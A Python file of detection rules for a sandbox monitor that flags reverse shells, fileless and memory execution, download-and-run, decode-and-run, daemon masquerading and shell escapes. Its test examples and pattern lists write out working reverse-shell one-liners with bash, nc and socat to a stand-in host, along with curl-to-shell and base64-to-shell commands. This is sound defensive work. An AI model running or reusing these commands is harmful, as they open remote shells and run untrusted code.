"""How programs are started: from memory, fetched, decoded, disguised, with their input from a socket."""

from __future__ import annotations

from typing import Final

from cloche import Act, After, Earlier, F, Rule, Severity
from cloche_rules.words import RUN, SHELLS, did, hit, miss, ran, runs, says

_HINT: Final = "start programs from files, by their name"
_DAEMONS: Final = (
    "sshd", "systemd", "systemd-*", "init", "cron", "crond", "dbus-daemon", "rsyslogd", "kworker*", "\\[*",
    "ksoftirqd*", "udevd", "agetty", "login", "su", "sudo", "passwd", "kthreadd", "auditd", "polkitd", "dockerd",
    "containerd*", "runc",
)  # fmt: skip
_FETCHERS: Final = ("curl", "wget", "fetch", "ftp", "tftp", "scp", "aria2c", "lwp-download", "axel")
_PIPED: Final = (
    "| sh", "|sh", "| bash", "|bash", "| dash", "| zsh", "| /bin/sh", "| /bin/bash", "|/bin/sh", "|/bin/bash", "| sudo",
    "| python", "| perl",
)  # fmt: skip

_INTERPRETERS: Final = ("python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "awk", "gawk")
_NAME_SERVER: Final = 53
_OUTWARDS: Final = (
    F.family.one_of(2, 10) & ~F.address.startswith("127.") & ~(F.address == "::1") & ~(F.port == _NAME_SERVER)
)

RULES: Final = (
    Rule(
        id="reverse-shell", severity=Severity.HIGH, events=RUN,
        summary="a shell is tied to a network connection by its command line",
        where=(says("/dev/tcp/", "/dev/udp/") & says("bash -i", "sh -i", "0>&1", "0<&", "exec 5<>", ">&5", "<&196"))
        | (runs("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat") & says("-e /bin/", "-c /bin/", "-e sh",
                "-e bash", "--sh-exec", "EXEC:", "exec:", "SYSTEM:", "system:")) | says("nc -e /bin/", "nc -c /bin/",
            "ncat -e /bin/", "ncat --sh-exec") | ((runs(*_INTERPRETERS) | F.name.glob("python3.*")) & says("socket",
                "Socket", "fsockopen(") & says("pty.spawn", "os.dup2(", 'exec("/bin/', "exec('/bin/", 'exec("sh',
                'exec "/bin/', 'spawn("/bin/', "spawn('/bin/", 'exec{"/bin/', '["/bin/sh"', "['/bin/sh'"))
        | (says("mkfifo", "mknod") & says("| nc", "|nc", "| telnet", "openssl s_client")),
        mode="inline", best_effort=True,
        attack=("T1059.004", "T1071", "T1095"), tags=frozenset({"execution", "network"}),
        message="{cmdline}", hint="use box.shell() or exec from outside to have a shell in the sandbox",
        examples=(
            hit(ran("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")),
            hit(ran("nc", "-e", "/bin/sh", "10.0.0.1", "4242")), hit(ran("socat", "TCP:10.0.0.1:4242", "EXEC:/bin/sh")),
            miss(ran("python3", "-c", "import socket; s = socket.socket()")), miss(ran("nc", "-z", "localhost", "80")),
        ),
    ),
    Rule(
        id="connected-shell", severity=Severity.HIGH, events=RUN,
        summary="a process that connected outwards becomes a shell",
        where=runs("sh", "bash", "dash", "ash", "zsh", "ksh"),
        after=After((Earlier(frozenset({Act.CONNECT}), _OUTWARDS),), within=60),
        attack=("T1059.004",), tags=frozenset({"execution", "network"}),
        message="{cmdline} after a connection by the same process",
        hint="use box.shell() or exec from outside to have a shell in the sandbox",
        examples=(
            hit(did("connect", target="10.0.0.1", family=2, port=4242, pid=7, at=0), ran("sh", "-i") | {"pid": 7,
                    "at": 1}),
            miss(did("connect", target="10.0.0.1", family=2, port=443, pid=7, at=0), ran("sh", "-c", "true")
                | {"pid": 8, "at": 1}),
        ),
    ),
    Rule(
        id="listening-shell", severity=Severity.HIGH, events=RUN,
        summary="a process that waited for connections becomes a shell",
        where=runs("sh", "bash", "dash", "ash", "zsh", "ksh"),
        after=After((Earlier(frozenset({Act.LISTEN})), Earlier(frozenset({Act.ACCEPT}))), within=600),
        attack=("T1059.004", "T1571"), tags=frozenset({"execution", "network"}),
        message="{cmdline} after accepting a connection",
        hint="use box.shell() or exec from outside to have a shell in the sandbox",
        examples=(
            hit(did("listen", pid=7, at=0), did("accept", pid=7, at=1), ran("sh") | {"pid": 7, "at": 2}),
            miss(did("listen", pid=7, at=0), did("accept", pid=7, at=1), ran("sh") | {"pid": 8, "at": 2}),
        ),
    ),
    Rule(
        id="fileless-execution", severity=Severity.HIGH, events=RUN,
        summary="a program is started that is no file: from memory, or through a descriptor",
        where=F.file.glob("/proc/*/fd/*", "/memfd:*", "/dev/fd/*") | F.resolved.glob("/memfd:*", "/proc/*/fd/*"),
        mode="inline", best_effort=True,
        attack=("T1620", "T1059"), tags=frozenset({"execution"}),
        message="{file}", hint=_HINT,
        examples=(hit(ran("x", path="/proc/self/fd/3")), hit(ran("x", path="/memfd:x (deleted)")), miss(ran("ls"))),
    ),
    Rule(
        id="memory-file", severity=Severity.INFO, events=frozenset({Act.MEMFD}),
        summary="a file is made that exists only in memory",
        attack=("T1620",), tags=frozenset({"execution"}),
        message="{address}", hint=_HINT,
        examples=(hit(did("memfd", target="x")), miss(did("create", "/tmp/x"))),
    ),
    Rule(
        id="memory-file-executed", severity=Severity.CRITICAL, events=RUN,
        summary="a process makes a file in memory and starts it",
        where=F.file.glob("/proc/*/fd/*", "/memfd:*", "/dev/fd/*"),
        after=After((Earlier(frozenset({Act.MEMFD})),), within=60, key=("exec",)),
        attack=("T1620",), tags=frozenset({"execution"}),
        message="{file}", hint=_HINT,
        examples=(
            hit(did("memfd", target="x", exec=1, at=0), ran("x", path="/proc/self/fd/3") | {"exec": 1, "at": 1}),
            miss(did("memfd", target="x", exec=1, at=0), ran("ls") | {"exec": 1, "at": 1}),
        ),
    ),
    Rule(
        id="executed-from-shared-memory", severity=Severity.HIGH, events=RUN,
        summary="a program is started from the folder of shared memory",
        where=F.file.under("/dev/shm", "/run/user", "/run/lock", "/dev/mqueue"),
        mode="inline", best_effort=True,
        attack=("T1059", "T1036.005"), tags=frozenset({"execution"}),
        message="{file}", hint="start programs from your work folder",
        examples=(hit(ran("x", path="/dev/shm/x")), miss(ran("x", path="/workspace/x"))),
    ),
    Rule(
        id="executed-from-temporary", severity=Severity.LOW, events=RUN,
        summary="a program is started right from a temporary folder",
        where=F.file.glob("/tmp/*", "/var/tmp/*", "/var/tmp/**", "/tmp/.*/**"),
        attack=("T1059", "T1204.002"), tags=frozenset({"execution"}),
        message="{file}", hint="start programs from your work folder",
        examples=(hit(ran("x", path="/tmp/x")), miss(ran("x", path="/tmp/pytest-of-me/x/y"))),
    ),
    Rule(
        id="executed-hidden", severity=Severity.MEDIUM, events=RUN,
        summary="a hidden program is started, or one that is no program by its name",
        where=F.name.glob(".*", "*.png", "*.jpg", "*.jpeg", "*.gif", "*.pdf", "*.doc", "*.docx", "*.txt", "*.mp3",
            "*.ico"),
        attack=("T1564.001", "T1036.008"), tags=frozenset({"execution", "files"}),
        message="{file}", hint="call programs what they are",
        examples=(
            hit(ran("x", path="/workspace/.x")), hit(ran("x", path="/tmp/a.png")),
            miss(ran("x", path="/workspace/.venv/bin/x")),
        ),
    ),
    Rule(
        id="drop-and-execute", severity=Severity.LOW, events=RUN,
        summary="a file is made, made executable and started, as droppers do, and compilers",
        where=F.file.under("${writable}") & ~F.file.glob("**/bin/*", "**/configure", "**/conftest", "**/config.status",
            "**/node_modules/**", "**/.libs/**", "**/CMakeFiles/**"),
        after=After((Earlier(frozenset({Act.CREATE}), F.file.under("${writable}")), Earlier(frozenset({Act.CHMOD}),
                    F.file.under("${writable}") & F.mode.has(0o111))), within=60, key=("exec",)),
        attack=("T1105", "T1204.002"), tags=frozenset({"execution"}),
        message="{file} was made just before", hint="builds do this; give the sandbox a profile for builds",
        examples=(
            hit(did("create", "/tmp/x", exec=1, at=0), did("chmod", "/tmp/x", exec=1, at=1, mode=0o755), ran("x",
                    path="/tmp/x") | {"exec": 1, "at": 2}),
            miss(did("create", "/tmp/x", exec=1, at=0), did("chmod", "/tmp/x", exec=1, at=1, mode=0o644), ran("x",
                    path="/usr/bin/x") | {"exec": 1, "at": 2}),
        ),
    ),
    Rule(
        id="download-and-run", severity=Severity.MEDIUM, events=RUN,
        summary="what a command fetches is handed to a shell at once",
        where=runs(*SHELLS) & says("curl", "wget", "requests.get", "urlopen", "session.get") & says(*_PIPED, "$(curl",
            "$(wget", "`curl", "`wget", "<(curl", "<(wget", 'eval "$', "eval $", "eval `", "os.system", "chmod +x",
            "chmod 755", "chmod 777"),
        attack=("T1105", "T1059.004"), tags=frozenset({"execution", "network"}),
        message="{cmdline}", hint="fetch first, look at it, then run it",
        examples=(hit(ran("sh", "-c", "curl -s http://x/y | sh")), miss(ran("sh", "-c", "curl -s http://x/y -o y"))),
    ),
    Rule(
        id="download-tool", severity=Severity.INFO, events=RUN,
        summary="a program that fetches or sends files is started",
        where=runs(*_FETCHERS, "rsync", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "whois", "rclone", "ssh",
            "devtunnel", "ngrok", "cloudflared", "chisel"),
        attack=("T1105", "T1048"), tags=frozenset({"execution", "network"}),
        message="{cmdline}", hint="bring files in and out from outside: box.files",
        examples=(hit(ran("curl", "http://x/y")), miss(ran("ls"))),
    ),
    Rule(
        id="decode-and-run", severity=Severity.MEDIUM, events=RUN,
        summary="decoded text is handed to a shell or an interpreter at once",
        where=says("base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d", "b64decode",
            "decode_base64", "base64,-d", "| rev", "gunzip -c", "unhexlify", "fromhex") & says(*_PIPED, 'eval "$',
            "eval $", "eval `", "eval(", "exec(", "os.system", "subprocess", "`", "$(echo", "|{", "system("),
        attack=("T1140", "T1027"), tags=frozenset({"execution"}),
        message="{cmdline}", hint="write the program as plain text",
        examples=(
            hit(ran("sh", "-c", "echo aWQ= | base64 -d | sh")),
            hit(ran("python3", "-c", "exec(base64.b64decode('aWQ='))")),
            miss(ran("sh", "-c", "base64 -d x.b64 > x.png")),
        ),
    ),
    Rule(
        id="decode-command", severity=Severity.INFO, events=RUN,
        summary="a command decodes text",
        where=says("base64 -d", "base64 --decode", "xxd -r", "b64decode", "decode_base64", "base64 -D",
            "openssl enc -d"),
        attack=("T1140",), tags=frozenset({"execution"}),
        message="{cmdline}", hint="nothing need be done",
        examples=(hit(ran("base64", "-d", "x")), miss(ran("base64", "x"))),
    ),
    Rule(
        id="masquerade", severity=Severity.MEDIUM, events=RUN,
        summary="a program in a folder that can be written is called like one of the system's",
        where=F.name.glob(*_DAEMONS) & F.file.under("${writable}") & ~F.file.under("/usr"),
        attack=("T1036.004", "T1036.005"), tags=frozenset({"execution", "files"}),
        message="{file}", hint="call programs what they are",
        examples=(
            hit(ran("sshd", path="/tmp/sshd")), hit(ran("x", path="/workspace/[kworker]")),
            miss(ran("sshd", path="/usr/sbin/sshd")), miss(ran("x", path="/workspace/x")),
        ),
    ),
    Rule(
        id="shell-from-program", severity=Severity.LOW, events=RUN,
        summary="a program that is no shell is made to start one by its arguments",
        where=(runs("find", "awk", "gawk", "mawk", "vim", "vi", "emacs", "less", "man", "tar", "zip", "nmap", "perl",
                "ruby", "lua", "php", "env", "ed", "gdb", "expect", "script", "xargs", "python3", "python", "taskset",
                "nice", "timeout", "busybox") & says(" -exec /bin/sh", " -exec /bin/bash", "-exec sh -p",
                'system("/bin/sh', "system('/bin/sh", ":!/bin/sh", "-c :!sh", "checkpoint-action=exec", '(term "/bin',
                'exec "/bin/sh', "exec '/bin/sh", "BEGIN {system(", "pty.spawn", 'os.execl("/bin/sh', "TF=$(mktemp",
                "busybox sh", 'os.system("/bin/sh', "env /bin/sh")) | runs("rbash", "rksh"),
        attack=("T1059.004", "T1548"), tags=frozenset({"execution"}),
        message="{cmdline}", hint="start the shell itself",
        examples=(
            hit(ran("find", ".", "-exec", "/bin/sh", "-p", ";")),
            hit(ran("tar", "cf", "x", "--checkpoint-action=exec=sh", "y")),
            miss(ran("find", ".", "-exec", "grep", "x", "{}", ";")),
        ),
    ),
    Rule(
        id="interpreter-fetches-and-runs", severity=Severity.MEDIUM, events=RUN,
        summary="an interpreter is given a program on its command line that starts others with what it fetched",
        where=runs("python3", "python", "python2", "perl", "ruby", "node", "php", "lua") & says("urllib", "requests",
            "http", "socket", "Net::", "LWP") & says("os.system", "subprocess", "exec(", "system(", "child_process",
            "popen"),
        attack=("T1059.006", "T1105"), tags=frozenset({"execution", "network"}),
        message="{cmdline}", hint="write the program into a file",
        examples=(
            hit(ran("python3", "-c", "import requests,os;os.system(requests.get('http://x').text)")),
            miss(ran("python3", "-m", "http.server")),
        ),
    ),
)  # fmt: skip
